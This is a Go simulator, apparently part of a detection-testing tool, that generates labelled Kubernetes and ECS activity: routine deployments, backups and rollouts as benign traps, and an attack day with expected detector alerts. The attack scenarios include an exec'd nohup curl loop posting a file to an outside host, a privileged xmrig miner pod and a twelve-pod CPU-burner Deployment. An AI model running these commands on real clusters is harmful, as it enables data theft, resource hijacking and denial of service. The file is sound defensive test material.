package simulate

import (
	"time"

	"github.com/tidewatch/tidewatch/shared/workload"
)

// Scenario names: the attacks of the attack day, then the traps (benign
// behaviour that must raise nothing).
const (
	ScenarioExecFlood = "exec-flood"
	ScenarioSynFlood  = "syn-flood"
	ScenarioUDPFlood  = "udp-flood"
	ScenarioPortKnock = "port-knock"
	ScenarioBeacon    = "beacon"
	ScenarioSlowFlood = "slow-flood"
	ScenarioMiner     = "miner"
	ScenarioSprawl    = "sprawl"
	// ScenarioNodeSaturation and ScenarioOOMLoop are in nodes.go.
	ScenarioNodeSaturation = "node-saturation"
	ScenarioOOMLoop        = "oom-loop"

	TrapBackup   = "trap-backup"
	TrapRollout  = "trap-rollout"
	TrapPeak     = "trap-peak"
	TrapScan     = "trap-scan"
	TrapTraffic  = "trap-traffic"
	TrapNodePeak = "trap-node-peak"
)

// Scenarios returns the names of every scenario and trap: the ten attacks
// of the attack day, then the six traps.
func Scenarios() []string {
	return []string{ScenarioExecFlood, ScenarioSynFlood, ScenarioUDPFlood, ScenarioPortKnock, ScenarioBeacon,
		ScenarioSlowFlood, ScenarioMiner, ScenarioSprawl, ScenarioNodeSaturation, ScenarioOOMLoop,
		TrapBackup, TrapRollout, TrapPeak, TrapScan, TrapTraffic, TrapNodePeak}
}

// Attack-day times, as offsets from the attack day's midnight.
const (
	execAt        = 10 * time.Hour
	floodFrom     = 10*time.Hour + 2*time.Minute
	floodTo       = 10*time.Hour + 30*time.Minute
	synFrom       = 11 * time.Hour
	synTo         = 11*time.Hour + 20*time.Minute
	udpFrom       = 13 * time.Hour
	udpTo         = 13*time.Hour + 15*time.Minute
	knockAt       = 14 * time.Hour
	beaconFrom    = 15 * time.Hour
	beaconTo      = 17 * time.Hour
	slowFrom      = 6 * time.Hour
	slowTo        = 12 * time.Hour
	minerAt       = 16 * time.Hour
	minerCPUFrom  = 16*time.Hour + 2*time.Minute
	minerCPUTo    = 16*time.Hour + 42*time.Minute
	ecsCPUFrom    = 18 * time.Hour
	ecsCPUTo      = 18*time.Hour + 30*time.Minute
	sprawlAt      = 19 * time.Hour
	rolloutAt     = 9 * time.Hour
	backupAt      = 2 * time.Hour
	backupRunTime = 20 * time.Minute
)

// Peers outside the estate, all in documentation ranges.
const (
	floodTarget  = "203.0.113.10"
	synTarget    = "198.51.100.20"
	udpTarget    = "203.0.113.30"
	knocker      = "198.51.100.66"
	beaconTarget = "192.0.2.50"
	backupPeer   = "203.0.113.80"
	partnerPeer  = "198.51.100.80"
)

func (s *sim) id(key string) string { return s.w.app(key).id(s.o.Cluster) }

func (s *sim) expect(scenario, detector, technique, wl string, from, to time.Duration) {
	s.exp = append(s.exp, Expectation{Scenario: scenario, Detector: detector, Technique: technique, Workload: wl,
		From: s.attack.Add(from), To: s.attack.Add(to)})
}

func (s *sim) quiet(scenario, wl string, from, to time.Time) {
	s.exp = append(s.exp, Expectation{Scenario: scenario, Workload: wl, From: from, To: to, Quiet: true})
}

// schedule plans the whole run: the first deployment, nightly backups,
// rollouts, and the attack day; and writes the expectations.
func (s *sim) schedule() {
	w := s.w
	// Day 1 starts with the estate being deployed.
	rsCtl, dsCtl := s.controller("replicaset-controller"), s.controller("daemon-set-controller")
	keys := []string{"shop/frontend", "shop/cart", "shop/checkout", "payments/api"}
	off := 3 * time.Second
	for i, n := range w.nodes {
		a := w.app("kube-system/aws-node")
		p := s.newPod(a, n, a.name)
		p.hash = "6d9f8c7b54"
		s.at(s.o.Start.Add(off+time.Duration(i)*1500*time.Millisecond), func(t time.Time) { s.startPod(p, t, dsCtl) })
	}
	off += 8 * time.Second
	k := 0
	for _, key := range keys {
		a := w.app(key)
		for range a.replicas {
			p := s.newPod(a, w.nodes[k%len(w.nodes)], a.name+"-"+a.hash)
			k++
			s.pulls = append(s.pulls, pull{node: p.node, at: s.o.Start})
			s.at(s.o.Start.Add(off), func(t time.Time) { s.startPod(p, t, rsCtl) })
			off += time.Duration(700+s.rng.IntN(900)) * time.Millisecond
		}
	}

	// Nightly backup, every day including the attack day.
	for d := 1; d <= s.o.Days+1; d++ {
		day := s.day(d)
		s.at(day.Add(backupAt), s.backup)
		s.quiet(TrapBackup, s.id("batch/backup"), day.Add(backupAt), day.Add(backupAt+backupRunTime+10*time.Minute))
	}

	// Ordinary releases in the history, and the frontend release on the
	// attack day; plus a container restart.
	type release struct {
		day      int
		at       time.Duration
		key, tag string
		isAttack bool
	}
	releases := []release{
		{day: 2, at: 15*time.Hour + 10*time.Minute, key: "shop/cart", tag: "v1.9.4"},
		{day: 3, at: 10*time.Hour + 30*time.Minute, key: "shop/checkout", tag: "v3.3.0"},
		{day: s.o.Days + 1, at: rolloutAt, key: "shop/frontend", tag: "v2.15.0", isAttack: true},
	}
	for _, r := range releases {
		if r.day > s.o.Days+1 || (!r.isAttack && r.day > s.o.Days) {
			continue
		}
		at := s.day(r.day).Add(r.at)
		s.at(at, func(t time.Time) { s.rollout(w.app(r.key), r.tag, t) })
		s.quiet(TrapRollout, s.id(r.key), at, at.Add(20*time.Minute))
		for _, n := range w.nodes {
			s.quiet(TrapRollout, workload.VPC(n.ifc.eni, addr(n.ifc.ip)), at, at.Add(20*time.Minute))
		}
	}
	if s.o.Days >= 3 {
		s.at(s.day(3).Add(20*time.Hour+17*time.Minute), func(t time.Time) {
			if p := w.app("payments/api").first(t); p != nil {
				p.restarts++
			}
		})
	}

	// Traps that hold through the history after the first (learning) day.
	if s.o.Days >= 2 {
		from, to := s.day(2), s.attack
		for _, key := range []string{"shop/frontend", "shop/cart", "shop/checkout", "payments/api", "kube-system/aws-node"} {
			s.quiet(TrapTraffic, s.id(key), from, to)
		}
		s.quiet(TrapTraffic, workload.ECSService(s.o.ECSCluster, "orders"), from, to)
		for _, n := range w.nodes {
			s.quiet(TrapScan, workload.VPC(n.ifc.eni, addr(n.ifc.ip)), from, s.attack.Add(24*time.Hour))
		}
		last := s.day(s.o.Days)
		for _, key := range keys {
			s.quiet(TrapPeak, s.id(key), last.Add(11*time.Hour+30*time.Minute), last.Add(12*time.Hour+30*time.Minute))
		}
	}
	// On the attack day itself, what no attack touches stays quiet.
	A := s.attack
	s.quiet(TrapPeak, s.id("shop/frontend"), A.Add(11*time.Hour+30*time.Minute), A.Add(12*time.Hour+30*time.Minute))
	s.quiet(TrapPeak, s.id("shop/cart"), A.Add(11*time.Hour+30*time.Minute), A.Add(12*time.Hour+30*time.Minute))
	s.quiet(TrapTraffic, s.id("shop/cart"), A, A.Add(9*time.Hour+55*time.Minute))
	s.quiet(TrapTraffic, s.id("shop/checkout"), A, A.Add(10*time.Hour+55*time.Minute))
	s.quiet(TrapTraffic, s.id("payments/api"), A, A.Add(14*time.Hour+55*time.Minute))
	s.quiet(TrapTraffic, s.id("kube-system/aws-node"), A, A.Add(24*time.Hour))
	s.quiet(TrapTraffic, workload.ECSService(s.o.ECSCluster, "orders"), A, A.Add(5*time.Hour+55*time.Minute))

	s.attacks()
	s.x.plan(s)
}

// rollout replaces every pod of a Deployment, one at a time (max surge 1),
// with pods of a new ReplicaSet; each new pod pulls its image.
func (s *sim) rollout(a *app, tag string, t time.Time) {
	patch := map[string]any{"spec": map[string]any{"template": map[string]any{"spec": map[string]any{
		"containers": []map[string]string{{"name": a.name, "image": a.image + ":" + tag}}}}}}
	s.audit(t, 9*time.Millisecond, s.deployer(), "RequestResponse", "ResponseComplete", "patch",
		"/apis/apps/v1/namespaces/"+a.ns+"/deployments/"+a.name+"?fieldManager=argocd-controller",
		objectRef{Resource: "deployments", Namespace: a.ns, Name: a.name, APIGroup: "apps", APIVersion: "v1"}, 200, patch, nil)
	a.tag = tag
	a.hash = s.w.safe(10)
	old := a.running(t)
	rsCtl := s.controller("replicaset-controller")
	for i, op := range old {
		start := t.Add(time.Duration(2+i*45) * time.Second)
		n := s.w.nodes[(indexOf(s.w.nodes, op.node)+1)%len(s.w.nodes)]
		p := s.newPod(a, n, a.name+"-"+a.hash)
		s.pulls = append(s.pulls, pull{node: n, at: start})
		s.at(start, func(t time.Time) { s.startPod(p, t, rsCtl) })
		s.at(start.Add(30*time.Second), func(t time.Time) { s.stopPod(op, t, rsCtl) })
	}
}

func indexOf(nodes []*node, n *node) int {
	for i, x := range nodes {
		if x == n {
			return i
		}
	}
	return 0
}

// backup runs the nightly CronJob: the Job, its pod, and 20 minutes later
// the pod's completion.
func (s *sim) backup(t time.Time) {
	a := s.w.app("batch/backup")
	job := a.name + "-" + itoa(int(t.Unix()/60))
	s.createJob(a, job, t)
	n := s.w.nodes[s.rng.IntN(len(s.w.nodes))]
	p := s.newPod(a, n, job)
	s.startPod(p, t.Add(time.Second), s.controller("job-controller"))
	p.gone = p.ready.Add(backupRunTime + time.Duration(s.rng.IntN(90))*time.Second)
	done := map[string]any{"metadata": map[string]string{"uid": p.uid}, "status": map[string]any{"phase": "Succeeded",
		"conditions": []map[string]string{{"type": "Ready", "status": "False", "reason": "PodCompleted"}}}}
	s.audit(p.gone.Add(2*time.Second), 4*time.Millisecond, s.kubelet(n), "Request", "ResponseComplete", "patch",
		"/api/v1/namespaces/"+a.ns+"/pods/"+p.name+"/status", objectRef{Resource: "pods", Namespace: a.ns, Name: p.name, APIVersion: "v1", Subresource: "status"}, 200, done, nil)
}

// createJob writes the CronJob controller's create of Job job of a, due at t.
func (s *sim) createJob(a *app, job string, t time.Time) {
	jobObj := map[string]any{"kind": "Job", "apiVersion": "batch/v1",
		"metadata": map[string]any{"name": job, "namespace": a.ns, "creationTimestamp": nil,
			"ownerReferences": []ownerRef{{APIVersion: "batch/v1", Kind: "CronJob", Name: a.name, UID: s.ownerUID(a.name), Controller: true, BlockOwnerDeletion: true}}},
		"spec": map[string]any{"backoffLimit": 2, "template": map[string]any{"spec": map[string]any{
			"containers": []map[string]string{{"name": a.name, "image": a.image + ":" + a.tag}}, "restartPolicy": "OnFailure"}}}}
	s.audit(t.Add(80*time.Millisecond), 11*time.Millisecond, s.controller("cronjob-controller"), "RequestResponse", "ResponseComplete", "create",
		"/apis/batch/v1/namespaces/"+a.ns+"/jobs", objectRef{Resource: "jobs", Namespace: a.ns, APIGroup: "batch", APIVersion: "v1"}, 201, jobObj, nil)
}

// attacks plans the attack day and its expectations.
func (s *sim) attacks() {
	w, A := s.w, s.attack
	cart, checkout := s.id("shop/cart"), s.id("shop/checkout")
	orders := workload.ECSService(s.o.ECSCluster, "orders")

	// 1. exec into a cart pod, then an outbound flood from it.
	s.at(A.Add(execAt-2*time.Second), func(t time.Time) {
		p := w.app("shop/cart").first(t)
		m := s.mallory()
		s.audit(t, 6*time.Millisecond, m, "Request", "ResponseComplete", "get", "/api/v1/namespaces/shop/pods/"+p.name,
			objectRef{Resource: "pods", Namespace: "shop", Name: p.name, APIVersion: "v1"}, 200, nil, nil)
		s.exec(p, t.Add(2*time.Second+217*time.Millisecond), t.Add(74*time.Second), []string{"sh", "-c",
			"nohup sh -c 'while true; do curl -s -X POST --data-binary @/tmp/blob http://" + floodTarget + "/upload; done' >/dev/null 2>&1 &"}, m)
	})
	s.expect(ScenarioExecFlood, "k8s-exec", "T1609", cart, execAt, execAt+2*time.Minute)
	s.expect(ScenarioExecFlood, "net-flood", "T1498.001", cart, floodFrom, floodTo)

	// 2. SYN flood from a checkout pod.
	s.expect(ScenarioSynFlood, "net-syn-flood", "T1498.001", checkout, synFrom, synTo)
	// 3. UDP flood from an orders task.
	s.expect(ScenarioUDPFlood, "net-udp-flood", "T1498.001", orders, udpFrom, udpTo)
	// 4. Port knock against a frontend pod.
	s.expect(ScenarioPortKnock, "net-port-knock", "T1205.001", s.id("shop/frontend"), knockAt, knockAt+time.Minute)
	// 5. Beacon from payments.
	s.expect(ScenarioBeacon, "net-beacon", "T1071.001", s.id("payments/api"), beaconFrom, beaconTo)
	s.expect(ScenarioBeacon, "net-new-destination", "T1071.001", s.id("payments/api"), beaconFrom, beaconFrom+5*time.Minute)
	// 6. Slow flood: orders sends three times its usual bytes for six hours.
	s.expect(ScenarioSlowFlood, "net-slow-flood", "T1498.001", orders, slowFrom, slowTo)

	// 7. A miner in a bare privileged pod; then ECS CPU exhaustion.
	miner := &app{ns: "default", name: "debug-miner", kind: workload.KindPod, replicas: 1, image: "docker.io/xmrig/xmrig", tag: "latest",
		cpu: 950, cpuLimit: 1000, mem: 300 << 20, memLimit: 512 << 20}
	w.apps["default/debug-miner"] = miner
	s.at(A.Add(minerAt+3*time.Second), func(t time.Time) {
		p := s.newPod(miner, w.nodes[1], "")
		p.privileged = true
		s.startPod(p, t, s.mallory())
		s.at(A.Add(minerCPUFrom), func(time.Time) { p.forcedCPU = 0.995 })
		s.at(A.Add(minerCPUTo), func(t time.Time) { s.stopPod(p, t, s.mallory()) })
	})
	mid := miner.id(s.o.Cluster)
	s.expect(ScenarioMiner, "k8s-bare-pod", "T1610", mid, minerAt, minerAt+time.Minute)
	s.expect(ScenarioMiner, "k8s-untrusted-registry", "T1610", mid, minerAt, minerAt+time.Minute)
	s.expect(ScenarioMiner, "k8s-privileged", "T1611", mid, minerAt, minerAt+time.Minute)
	s.expect(ScenarioMiner, "res-cpu", "T1496", mid, minerCPUFrom, minerCPUTo)
	s.at(A.Add(ecsCPUFrom), func(time.Time) { w.tasks[0].forcedCPU, w.tasks[1].forcedCPU = 0.985, 0.99 })
	s.at(A.Add(ecsCPUTo), func(time.Time) { w.tasks[0].forcedCPU, w.tasks[1].forcedCPU = 0, 0 })
	s.expect(ScenarioMiner, "res-cpu", "T1499", orders, ecsCPUFrom, ecsCPUTo)

	// 8. A Deployment of twelve CPU burners.
	burner := &app{ns: "default", name: "burner", kind: workload.KindDeployment, replicas: 12, image: "docker.io/library/busybox", tag: "1.36",
		cpu: 480, cpuLimit: 500, mem: 20 << 20, memLimit: 64 << 20}
	burner.hash = s.w.safe(10)
	burner.extra = map[string]string{"app": burner.name}
	w.apps["default/burner"] = burner
	s.at(A.Add(sprawlAt+7*time.Second), func(t time.Time) {
		dep := map[string]any{"kind": "Deployment", "apiVersion": "apps/v1",
			"metadata": map[string]any{"name": burner.name, "namespace": burner.ns, "creationTimestamp": nil, "labels": map[string]string{"app": burner.name}},
			"spec": map[string]any{"replicas": burner.replicas, "selector": map[string]any{"matchLabels": map[string]string{"app": burner.name}},
				"template": map[string]any{"metadata": map[string]any{"creationTimestamp": nil, "labels": map[string]string{"app": burner.name}},
					"spec": map[string]any{"containers": []map[string]any{{"name": burner.name, "image": burner.image + ":" + burner.tag,
						"command":   []string{"sh", "-c", "while true; do :; done"},
						"resources": map[string]any{"limits": map[string]string{"cpu": "500m", "memory": "64Mi"}}}}}}}}
		s.audit(t, 14*time.Millisecond, s.mallory(), "RequestResponse", "ResponseComplete", "create",
			"/apis/apps/v1/namespaces/default/deployments?fieldManager=kubectl-create", objectRef{Resource: "deployments", Namespace: "default", APIGroup: "apps", APIVersion: "v1"}, 201, dep, nil)
		rsCtl := s.controller("replicaset-controller")
		for i := range burner.replicas {
			p := s.newPod(burner, w.nodes[i%len(w.nodes)], burner.name+"-"+burner.hash)
			p.forcedCPU = 0.93 + 0.05*s.rng.Float64()
			s.startPod(p, t.Add(time.Duration(900+i*350)*time.Millisecond), rsCtl)
		}
	})
	s.expect(ScenarioSprawl, "res-sprawl", "T1496", burner.id(s.o.Cluster), sprawlAt, sprawlAt+15*time.Minute)
}
